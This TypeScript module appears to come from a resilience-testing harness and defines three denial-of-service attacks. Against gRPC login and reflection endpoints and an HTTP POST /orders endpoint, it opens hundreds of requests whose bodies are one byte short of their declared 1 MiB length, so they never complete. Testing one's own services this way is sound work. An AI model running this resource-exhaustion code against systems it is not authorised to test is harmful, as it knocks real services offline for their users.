import type { Attack } from './attack.ts';
import { callGrpc } from './attacker.ts';

const BODY_BYTES = 1_048_576;
const PER_CONNECTION = 100;

/** Calls whose only message is never complete: the last byte is missing. */
function endless(name: string, what: string, path: string): Attack {
  return {
    name,
    what: `${what} just short of 1 MiB that never end`,
    size: { small: 20, large: 700 },
    repeats: false,
    async run(attacker, size, signal) {
      const body = Buffer.alloc(BODY_BYTES - 1);
      body.writeUInt32BE(BODY_BYTES - 5, 1);
      let begun = 0;
      for (const session of attacker.openFor(size, PER_CONNECTION)) {
        for (let sent = 0; sent < PER_CONNECTION && begun < size && !signal.aborted; sent += 1) {
          const stream = callGrpc(session, { path });
          if (stream === undefined) break;
          begun += 1;
          void attacker.tally.watch(stream);
          stream.resume();
          stream.write(body);
          await new Promise((turn) => setImmediate(turn));
        }
      }
    },
  };
}

export const endlessLogins = endless('endless-logins', 'logins', '/redleaf.v1.SessionService/Login');

/** A stream has no time limit, and this one needs no token. */
export const endlessReflection = endless(
  'endless-reflection',
  'requests of reflection streams',
  '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo',
);

export const endlessOrders: Attack = {
  name: 'endless-orders',
  what: 'HTTP/1.1 bodies of POST /orders just short of 1 MiB that never end',
  size: { small: 20, large: 700 },
  repeats: false,
  async run(attacker, size, signal) {
    const body = Buffer.alloc(BODY_BYTES - 1, ' ');
    const { host } = new URL(attacker.target.url);
    const head = `POST /orders HTTP/1.1\r\nhost: ${host}\r\ncontent-length: ${BODY_BYTES}\r\n\r\n`;
    for (let sent = 0; sent < size && !signal.aborted; sent += 1) {
      const socket = attacker.connect();
      attacker.tally.sent();
      socket.once('close', () => attacker.tally.cut());
      socket.resume();
      socket.write(head);
      socket.write(body);
      await new Promise((turn) => setImmediate(turn));
    }
  },
};
